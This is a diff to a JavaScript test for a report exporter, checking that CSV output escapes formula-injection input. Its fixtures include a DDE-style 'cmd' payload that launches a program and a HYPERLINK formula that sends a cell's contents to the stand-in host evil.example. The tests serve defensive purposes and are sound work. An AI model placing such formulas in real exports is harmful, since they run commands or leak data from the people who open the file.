@@ -72,7 +72,7 @@ it('json carries the whole report, but no copies of pictures', () => {
 
 it('csv keeps hostile answers whole inside their cell, and starts none with a formula', () => {
   const text = files(REPORTERS.csv, hostile)['requests.csv'] ?? '';
-  expect(text).toContain(`,'+1+cmd|' /C calc'!A0,'+1+cmd|' /C calc'!A0\n`);
+  expect(text).toContain(`,'+1+cmd|' /C calc'!A0,'+1+cmd|' /C calc'!A0,false\n`);
   expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
   expect(text).toContain('"\'\rCarriage return first"');
   expect(text).not.toContain('\0');
